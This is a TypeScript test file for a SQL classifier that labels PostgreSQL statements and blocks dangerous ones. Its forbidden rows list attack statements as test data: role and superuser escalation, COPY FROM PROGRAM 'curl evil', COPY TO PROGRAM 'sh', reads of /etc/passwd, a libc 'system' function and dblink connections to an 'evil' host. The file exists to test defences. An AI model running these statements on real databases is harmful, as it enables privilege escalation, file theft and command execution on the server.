// The classifier's statement table: actions, resources, forbidden reasons and flags per statement.
// Every forbidden row names its reason, so removing any rule turns its row red.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { type ActionName, actionNames } from '@weftkit/kernel';
import { classify, loadClassifier } from './classify.js';
import { type Classification, type ForbiddenReason, StatementFlag, type StatementFlagTable } from './types.js';

type FlagName = keyof StatementFlagTable;

interface Row {
  readonly sql: string;
  /** Every action the string needs (exact). */
  readonly actions: readonly ActionName[];
  /** Resources and their actions (exact when given). */
  readonly resources?: Readonly<Record<string, readonly ActionName[]>>;
  readonly forbidden?: ForbiddenReason;
  /** Flags that must be set (others may be). */
  readonly flags?: readonly FlagName[];
  readonly unparseable?: boolean;
}

const R = (sql: string, actions: readonly ActionName[], rest: Omit<Row, 'sql' | 'actions'> = {}): Row => ({
  sql,
  actions,
  ...rest,
});
const F = (sql: string, forbidden: ForbiddenReason, actions?: readonly ActionName[]): Row => ({
  sql,
  actions: actions ?? [],
  forbidden,
});

const ROWS: readonly Row[] = [
  // Queries
  R('SELECT 1', ['SELECT'], { resources: {} }),
  R('select * from orders', ['SELECT'], { resources: { 'public.orders': ['SELECT'] } }),
  R('SELECT * FROM "Orders"', ['SELECT'], { resources: { 'public.Orders': ['SELECT'] } }),
  R('SELECT * FROM sales.orders o JOIN public.items i USING (id)', ['SELECT'], {
    resources: { 'sales.orders': ['SELECT'], 'public.items': ['SELECT'] },
  }),
  R('SELECT * FROM "Sales"."Orders"', ['SELECT'], { resources: { 'Sales.Orders': ['SELECT'] } }),
  R('SELECT (SELECT max(x) FROM a) FROM b WHERE id IN (SELECT id FROM c)', ['SELECT'], {
    resources: { 'public.a': ['SELECT'], 'public.b': ['SELECT'], 'public.c': ['SELECT'] },
  }),
  R('SELECT * FROM t FOR UPDATE', ['SELECT', 'UPDATE'], { resources: { 'public.t': ['SELECT', 'UPDATE'] } }),
  R('SELECT * FROM a JOIN b ON true FOR SHARE OF b', ['SELECT', 'UPDATE'], {
    resources: { 'public.a': ['SELECT'], 'public.b': ['SELECT', 'UPDATE'] },
  }),
  R('SELECT * INTO newt FROM t', ['SELECT', 'INSERT', 'DDL'], {
    resources: { 'public.newt': ['INSERT', 'DDL'], 'public.t': ['SELECT'] },
  }),
  R('SELECT * INTO TEMP tt FROM t', ['SELECT', 'INSERT', 'DDL'], { flags: ['TEMP_OBJECT'] }),
  R('VALUES (1), (2)', ['SELECT']),
  R('SELECT * FROM a UNION SELECT * FROM b', ['SELECT'], { resources: { 'public.a': ['SELECT'], 'public.b': ['SELECT'] } }),
  R('SELECT relname FROM pg_class', ['SELECT'], { resources: { 'pg_catalog.pg_class': ['SELECT'] } }),
  R("SELECT current_setting('app.tenant_id')", ['SELECT'], { resources: {} }),
  R("SELECT current_setting('app.user', true), now(), lower('X'), count(*) FROM t", ['SELECT']),
  R('SELECT my_report(1)', ['SELECT', 'EXECUTE'], { resources: { 'public.my_report': ['EXECUTE'] }, flags: ['USER_CODE'] }),
  R('SELECT * FROM s.fn()', ['SELECT', 'EXECUTE'], { resources: { 's.fn': ['EXECUTE'] } }),
  R("SELECT nextval('orders_id_seq')", ['SELECT', 'UPDATE'], { resources: { 'public.orders_id_seq': ['UPDATE'] } }),
  R("SELECT query_to_xml('select * from secret', true, true, '')", ['SELECT', 'EXECUTE'], { resources: {} }),
  R('SELECT pg_advisory_lock(1)', ['SELECT'], { flags: ['ADVISORY_LOCK'] }),
  R("SELECT pg_notify('c', 'x')", ['SELECT'], { flags: ['NOTIFY'] }),
  R("SELECT set_config('statement_timeout', '5s', false)", ['SELECT'], { flags: ['SETTING'] }),
  // CTEs
  R('WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', ['SELECT', 'DELETE'], {
    resources: { 'public.t': ['SELECT', 'DELETE'] },
  }),
  R('WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING id) INSERT INTO log SELECT id FROM u', ['SELECT', 'INSERT', 'UPDATE'], {
    resources: { 'public.t': ['SELECT', 'UPDATE'], 'public.log': ['INSERT'] },
  }),
  R('WITH secret AS (SELECT * FROM secret) SELECT * FROM secret', ['SELECT'], { resources: { 'public.secret': ['SELECT'] } }),
  R('WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r', ['SELECT'], {
    resources: {},
  }),
  R('WITH x AS (SELECT 1) SELECT * FROM public.x', ['SELECT'], { resources: { 'public.x': ['SELECT'] } }),
  // DML
  R('INSERT INTO t VALUES (1)', ['INSERT'], { resources: { 'public.t': ['INSERT'] } }),
  R('INSERT INTO t SELECT * FROM u', ['SELECT', 'INSERT'], { resources: { 'public.t': ['INSERT'], 'public.u': ['SELECT'] } }),
  R('INSERT INTO t VALUES (1) RETURNING id', ['SELECT', 'INSERT'], { resources: { 'public.t': ['SELECT', 'INSERT'] } }),
  R('INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v', ['SELECT', 'INSERT', 'UPDATE'], {
    resources: { 'public.t': ['SELECT', 'INSERT', 'UPDATE'] },
  }),
  R('INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', ['INSERT'], { resources: { 'public.t': ['INSERT'] } }),
  R('UPDATE t SET a = 1', ['UPDATE'], { resources: { 'public.t': ['UPDATE'] } }),
  R('UPDATE t SET a = a + 1 WHERE id = 3', ['SELECT', 'UPDATE'], { resources: { 'public.t': ['SELECT', 'UPDATE'] } }),
  R('UPDATE t SET a = u.a FROM u WHERE u.id = t.id', ['SELECT', 'UPDATE'], {
    resources: { 'public.t': ['SELECT', 'UPDATE'], 'public.u': ['SELECT'] },
  }),
  R('DELETE FROM t', ['DELETE'], { resources: { 'public.t': ['DELETE'] } }),
  R('DELETE FROM t WHERE id IN (SELECT id FROM u)', ['SELECT', 'DELETE'], {
    resources: { 'public.t': ['SELECT', 'DELETE'], 'public.u': ['SELECT'] },
  }),
  R(
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)',
    ['SELECT', 'INSERT', 'UPDATE'],
    { resources: { 'public.t': ['SELECT', 'INSERT', 'UPDATE'], 'public.s': ['SELECT'] } },
  ),
  R('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', ['SELECT', 'DELETE']),
  R('TRUNCATE a, b', ['DELETE'], { resources: { 'public.a': ['DELETE'], 'public.b': ['DELETE'] } }),
  R('LOCK TABLE t IN ACCESS SHARE MODE', ['SELECT'], { resources: { 'public.t': ['SELECT'] } }),
  R('LOCK TABLE t', ['UPDATE'], { resources: { 'public.t': ['UPDATE'] } }),
  // EXPLAIN
  R('EXPLAIN SELECT 1', ['SELECT'], { resources: {} }),
  R('EXPLAIN DELETE FROM t', ['SELECT'], { resources: { 'public.t': ['SELECT'] } }),
  R('EXPLAIN ANALYZE DELETE FROM t', ['DELETE'], { resources: { 'public.t': ['DELETE'] } }),
  R('EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1', ['UPDATE'], { resources: { 'public.t': ['UPDATE'] } }),
  R('EXPLAIN (ANALYZE false) DELETE FROM t', ['SELECT'], { resources: { 'public.t': ['SELECT'] } }),
  // PREPARE / EXECUTE / cursors (EXECUTE is resolved by PreparedStatements: see prepared.test.ts)
  R('PREPARE p AS DELETE FROM t WHERE id = $1', ['SELECT', 'DELETE'], { flags: ['PREPARE'] }),
  R('DEALLOCATE p', [], { flags: ['DEALLOCATE'] }),
  R('DECLARE c CURSOR FOR SELECT * FROM t', ['SELECT'], { resources: { 'public.t': ['SELECT'] }, flags: ['CURSOR'] }),
  R('FETCH 10 FROM c', [], { flags: ['CURSOR'] }),
  R('CLOSE c', [], { flags: ['CURSOR'] }),
  // COPY
  R('COPY t TO STDOUT', ['COPY TO'], { resources: { 'public.t': ['COPY TO'] }, flags: ['COPY_OUT'] }),
  R('COPY t (a, b) FROM STDIN WITH (FORMAT csv)', ['COPY FROM'], { resources: { 'public.t': ['COPY FROM'] }, flags: ['COPY_IN'] }),
  R('COPY (SELECT * FROM t) TO STDOUT', ['SELECT', 'COPY TO'], { resources: { 'public.t': ['SELECT', 'COPY TO'] } }),
  R('COPY (SELECT 1) TO STDOUT', ['SELECT', 'COPY TO'], { resources: {} }),
  // Code
  R('DO $$ BEGIN NULL; END $$', ['EXECUTE'], { flags: ['USER_CODE'] }),
  R('DO $$ BEGIN DELETE FROM t; END $$', ['EXECUTE', 'DELETE'], { resources: { 'public.t': ['DELETE'] } }),
  R("DO $$ DECLARE q text := 'select 1'; BEGIN EXECUTE q; END $$", ['EXECUTE']),
  R('CALL proc(1)', ['EXECUTE'], { resources: { 'public.proc': ['EXECUTE'] } }),
  R("CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql AS 'SELECT a + 1'", ['DDL'], { resources: { 'public.f': ['DDL'] } }),
  R('CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $f$ BEGIN RETURN 1; END $f$', ['DDL']),
  R('CREATE FUNCTION f(t text) RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE t; END $f$', ['DDL', 'EXECUTE']),
  // DDL
  R('CREATE TABLE orders (id int PRIMARY KEY, tenant_id text)', ['DDL'], { resources: { 'public.orders': ['DDL'] } }),
  R('CREATE TEMP TABLE tt (a int)', ['DDL'], { resources: { 'public.tt': ['DDL'] }, flags: ['TEMP_OBJECT'] }),
  R('CREATE TABLE s.copy AS SELECT * FROM t', ['SELECT', 'INSERT', 'DDL'], {
    resources: { 's.copy': ['INSERT', 'DDL'], 'public.t': ['SELECT'] },
  }),
  R('CREATE INDEX i ON t (a)', ['DDL'], { resources: { 'public.t': ['DDL'] } }),
  R('CREATE VIEW v AS SELECT * FROM t', ['SELECT', 'DDL'], { resources: { 'public.v': ['DDL'], 'public.t': ['SELECT'] } }),
  R('ALTER TABLE t ADD COLUMN b int', ['DDL'], { resources: { 'public.t': ['DDL'] } }),
  R('ALTER TABLE t ENABLE ROW LEVEL SECURITY', ['DDL'], { resources: { 'public.t': ['DDL'] } }),
  R('DROP TABLE a, s.b', ['DDL'], { resources: { 'public.a': ['DDL'], 's.b': ['DDL'] } }),
  R('DROP FUNCTION f(int)', ['DDL'], { resources: { 'public.f': ['DDL'] } }),
  R(
    "CREATE POLICY tenant_isolation ON orders USING (tenant_id = current_setting('app.tenant_id'))",
    ['DDL'],
    { resources: { 'public.orders': ['DDL'] } },
  ),
  R('CREATE SCHEMA s', ['DDL'], { resources: {} }),
  R("COMMENT ON TABLE t IS 'x'", ['DDL'], { resources: { 'public.t': ['DDL'] } }),
  R('CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', ['DDL'], { resources: { 'public.t': ['DDL'] } }),
  R('GRANT SELECT ON t TO bob', ['DDL'], { resources: { 'public.t': ['DDL'] } }),
  R('REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob', ['DDL'], { resources: {} }),
  R('GRANT reporting TO bob', ['role_admin']),
  R('VACUUM t', ['DDL'], { resources: { 'public.t': ['DDL'] } }),
  R('ANALYZE', ['DDL'], { resources: {} }),
  R('REFRESH MATERIALIZED VIEW mv', ['DDL'], { resources: { 'public.mv': ['DDL'] } }),
  // Session and transaction control
  R('BEGIN', [], { flags: ['TRANSACTION', 'TRANSACTION_BEGIN'] }),
  R('START TRANSACTION READ ONLY', [], { flags: ['TRANSACTION', 'TRANSACTION_BEGIN'] }),
  R('COMMIT', [], { flags: ['TRANSACTION', 'TRANSACTION_END'] }),
  R('END', [], { flags: ['TRANSACTION', 'TRANSACTION_END'] }),
  R('ABORT', [], { flags: ['TRANSACTION', 'TRANSACTION_END'] }),
  R('COMMIT AND CHAIN', [], { flags: ['TRANSACTION', 'TRANSACTION_END'] }),
  R("PREPARE TRANSACTION 'x'", [], { flags: ['TRANSACTION', 'TRANSACTION_END'] }),
  R("COMMIT PREPARED 'x'", [], { flags: ['TRANSACTION', 'TRANSACTION_END'] }),
  R('ROLLBACK TO SAVEPOINT s1', [], { flags: ['TRANSACTION'] }),
  R('SAVEPOINT s1', [], { flags: ['TRANSACTION'] }),
  R('RELEASE SAVEPOINT s1', [], { flags: ['TRANSACTION'] }),
  R('SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', [], { flags: ['TRANSACTION'] }),
  R("SET statement_timeout = '5s'", [], { flags: ['SETTING'] }),
  R('SET search_path TO s, public', [], { flags: ['SETTING'] }),
  R('RESET statement_timeout', [], { flags: ['SETTING'] }),
  R('SHOW search_path', []),
  R('RESET ALL', [], { flags: ['SESSION_RESET'] }),
  R('DISCARD ALL', [], { flags: ['SESSION_RESET', 'DEALLOCATE', 'TEMP_OBJECT'] }),
  R('LISTEN ch', [], { flags: ['LISTEN'] }),
  R('UNLISTEN *', [], { flags: ['UNLISTEN'] }),
  R("NOTIFY ch, 'x'", [], { flags: ['NOTIFY'] }),
  // Multi-statement strings, comments, whitespace
  R('BEGIN; INSERT INTO t VALUES (1); SELECT * FROM u; COMMIT;', ['SELECT', 'INSERT'], {
    resources: { 'public.t': ['INSERT'], 'public.u': ['SELECT'] },
    flags: ['TRANSACTION', 'TRANSACTION_BEGIN', 'TRANSACTION_END'],
  }),
  R('/* leading */ SELECT\n\t*  -- trailing\n FROM\n\n t ;', ['SELECT'], { resources: { 'public.t': ['SELECT'] } }),
  R('', [], { resources: {} }),
  R('-- only a comment', [], { resources: {} }),
  // Unparseable
  R('SELEKT * FROM t', [], { unparseable: true }),
  R('garbage here', [], { unparseable: true }),
  R("SELECT 'unterminated", [], { unparseable: true }),
  // Forbidden: identity, role, engine settings
  F('SET ROLE postgres', 'role_change'),
  F('SET LOCAL ROLE x', 'role_change'),
  F('SET SESSION ROLE x', 'role_change'),
  F('RESET ROLE', 'role_change'),
  F('SET ROLE NONE', 'role_change'),
  F('SET SESSION AUTHORIZATION postgres', 'session_authorization'),
  F('SET SESSION AUTHORIZATION DEFAULT', 'session_authorization'),
  F('RESET SESSION AUTHORIZATION', 'session_authorization'),
  F("SET session_authorization = 'postgres'", 'session_authorization'),
  F("SET app.tenant_id = 'other'", 'engine_setting'),
  F('SET LOCAL app."user" = \'root\'', 'engine_setting'),
  F('SET "APP".tenant_id TO x', 'engine_setting'),
  F('RESET app.tenant_id', 'engine_setting'),
  F("SELECT set_config('role','postgres',false)", 'role_change', ['SELECT']),
  F("SELECT set_config('session_authorization','postgres',false)", 'session_authorization', ['SELECT']),
  F("select SET_CONFIG('app.tenant_id','other',false)", 'engine_setting', ['SELECT']),
  F("SELECT pg_catalog.set_config('ROLE'::text, 'postgres', false)", 'role_change', ['SELECT']),
  F("SELECT set_config(setting_name => 'role', new_value => 'x', is_local => false)", 'role_change', ['SELECT']),
  F("SELECT set_config($1, 'x', false)", 'dynamic_set_config', ['SELECT']),
  F("SELECT set_config(lower('ROLE'), 'x', false)", 'dynamic_set_config', ['SELECT']),
  F("SELECT * FROM t WHERE id = (SELECT length(set_config('role','x',true)))", 'role_change', ['SELECT']),
  F("WITH c AS (SELECT set_config('app.user','x',false)) SELECT * FROM c", 'engine_setting', ['SELECT']),
  F("SELECT coalesce(set_config('app.tenant_id', 'x', false), '') FROM t", 'engine_setting', ['SELECT']),
  F("UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'", 'settings_table', ['SELECT', 'UPDATE']),
  F('UPDATE pg_catalog.pg_authid SET rolsuper = true', 'catalog_write', ['UPDATE']),
  F('CREATE ROLE evil SUPERUSER', 'role_change'),
  F('CREATE USER u', 'role_change'),
  F('CREATE GROUP g', 'role_change'),
  F('ALTER ROLE bob SUPERUSER', 'role_change'),
  F("ALTER ROLE bob SET app.tenant_id = 't2'", 'role_change'),
  F('DROP ROLE bob', 'role_change'),
  F('ALTER ROLE bob RENAME TO alice', 'role_change', ['DDL']),
  F('GRANT pg_read_server_files TO bob', 'predefined_role', ['role_admin']),
  F('GRANT postgres TO bob', 'role_change', ['role_admin']),
  F("ALTER DATABASE postgres SET app.tenant_id = 'x'", 'engine_setting', ['DDL']),
  F("CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = 'postgres' AS 'SELECT 1'", 'role_change', ['DDL']),
  F('ALTER FUNCTION f() SET session_authorization = postgres', 'session_authorization', ['DDL']),
  // Forbidden: code that changes identity
  F("DO $$ BEGIN EXECUTE 'SET ROLE postgres'; END $$", 'role_change', ['EXECUTE']),
  F("DO $$ BEGIN EXECUTE 'set session authorization postgres'; END $$", 'session_authorization', ['EXECUTE']),
  F("DO $$ BEGIN PERFORM set_config('role', 'postgres', false); END $$", 'role_change', ['EXECUTE']),
  F('DO $$ BEGIN RESET ROLE; END $$', 'role_change', ['EXECUTE']),
  F("DO $$ DECLARE r text := 'postgres'; BEGIN EXECUTE 'SET ROLE ' || r; END $$", 'dynamic_identity_change', ['EXECUTE']),
  F("DO $$ BEGIN EXECUTE format('SET %s = %L', 'app.tenant_id', 'x'); END $$", 'dynamic_identity_change', ['EXECUTE']),
  F(
    'CREATE FUNCTION pg_temp.f() RETURNS int LANGUAGE sql AS $$ SET SESSION AUTHORIZATION postgres; SELECT 1 $$',
    'session_authorization',
    ['DDL'],
  ),
  F(
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $f$ BEGIN EXECUTE 'RESET ROLE'; END $f$",
    'role_change',
    ['DDL'],
  ),
  F("CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT length(set_config('role','x',false)); END", 'role_change', ['DDL']),
  F("CREATE VIEW v AS SELECT set_config('app.user', 'x', false)", 'engine_setting', ['DDL']),
  F("CREATE FUNCTION r(text) RETURNS text LANGUAGE internal AS 'pg_read_file_off_len'", 'load_library', ['DDL']),
  F("CREATE FUNCTION s(cstring) RETURNS int LANGUAGE c AS 'libc', 'system'", 'load_library', ['DDL']),
  // Forbidden: sandbox escapes
  F('ALTER SYSTEM SET fsync = off', 'alter_system'),
  F("LOAD 'auto_explain'", 'load_library'),
  F("SET session_preload_libraries = 'x'", 'load_library'),
  F('CREATE EXTENSION pg_trgm', 'extension'),
  F('DROP EXTENSION plpgsql', 'extension', ['DDL']),
  F("COPY t TO PROGRAM 'sh'", 'copy_program', ['COPY TO']),
  F("COPY t FROM PROGRAM 'curl evil'", 'copy_program', ['COPY FROM']),
  F("COPY t FROM '/etc/passwd'", 'server_file', ['COPY FROM']),
  F("COPY (SELECT 1) TO '/tmp/x'", 'server_file', ['SELECT', 'COPY TO']),
  F("SELECT lo_import('/etc/passwd')", 'server_file', ['SELECT']),
  F("SELECT lo_export(1, '/tmp/x')", 'server_file', ['SELECT']),
  F("SELECT pg_read_file('/etc/passwd')", 'server_file', ['SELECT']),
  F("SELECT * FROM pg_ls_dir('.')", 'server_file', ['SELECT']),
  F("SELECT pg_catalog.pg_stat_file('postgresql.conf')", 'server_file', ['SELECT']),
  F('SELECT pg_terminate_backend(pg_backend_pid())', 'server_admin', ['SELECT']),
  F('SELECT pg_reload_conf()', 'server_admin', ['SELECT']),
  F("SELECT * FROM dblink('host=evil', 'select 1') AS x(a int)", 'external_connection', ['SELECT']),
  F("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", 'external_connection'),
  F("CREATE TABLESPACE ts LOCATION '/tmp'", 'server_file'),
  F('CREATE DATABASE other', 'server_admin'),
  // Multi-statement: one forbidden statement forbids the string
  F('SELECT 1; SET ROLE postgres; SELECT 2', 'role_change', ['SELECT']),
];

const flagNames = Object.keys(StatementFlag) as FlagName[];

function shape(c: Classification): Row {
  const resources: Record<string, ActionName[]> = {};
  for (const r of c.resources) resources[r.name] = actionNames(r.actions);
  const flags = flagNames.filter((f) => (c.flags & StatementFlag[f]) !== 0);
  return { sql: '', actions: actionNames(c.actions), resources, flags, ...(c.forbidden ? { forbidden: c.forbidden } : {}) };
}

before(async () => {
  await loadClassifier();
});

test('the table has at least 80 statements', () => {
  assert.ok(ROWS.length >= 80, String(ROWS.length));
});

for (const row of ROWS) {
  test(`classify: ${row.sql.replace(/\s+/g, ' ').slice(0, 90)}`, () => {
    const c = classify(row.sql);
    if (row.unparseable === true) {
      assert.equal(c.unparseable, true);
      assert.equal(actionNames(c.actions).length, 13, 'unparseable needs every action (superuser only)');
      return;
    }
    assert.equal(c.unparseable, false, 'parses');
    const got = shape(c);
    assert.equal(got.forbidden, row.forbidden, 'forbidden reason');
    assert.deepEqual([...got.actions].sort(), [...row.actions].sort(), 'actions');
    if (row.resources !== undefined) {
      const want: Record<string, string[]> = {};
      for (const [k, v] of Object.entries(row.resources)) want[k] = [...v].sort();
      const have: Record<string, string[]> = {};
      for (const [k, v] of Object.entries(got.resources ?? {})) have[k] = [...v].sort();
      assert.deepEqual(have, want, 'resources');
    }
    for (const f of row.flags ?? []) assert.ok(got.flags?.includes(f), `flag ${f}`);
  });
}

test('multi-statement strings list each statement with its own actions and byte offsets', () => {
  const sql = "SELECT 'é' FROM a; DELETE FROM b; SET ROLE x";
  const c = classify(sql);
  assert.equal(c.statements.length, 3);
  assert.deepEqual(
    c.statements.map((s) => s.kind),
    ['SelectStmt', 'DeleteStmt', 'VariableSetStmt'],
  );
  assert.deepEqual(actionNames(c.statements[0]!.actions), ['SELECT']);
  assert.deepEqual(actionNames(c.statements[1]!.actions), ['DELETE']);
  assert.equal(c.statements[2]!.forbidden, 'role_change');
  assert.equal(c.forbidden, 'role_change');
  const bytes = Buffer.from(sql);
  const second = c.statements[1]!;
  assert.equal(bytes.subarray(second.location, second.location + second.length).toString().trim(), 'DELETE FROM b');
});

test('results are frozen (shared through the cache)', () => {
  const c = classify('SELECT * FROM t');
  assert.ok(Object.isFrozen(c) && Object.isFrozen(c.resources) && Object.isFrozen(c.statements[0]));
});
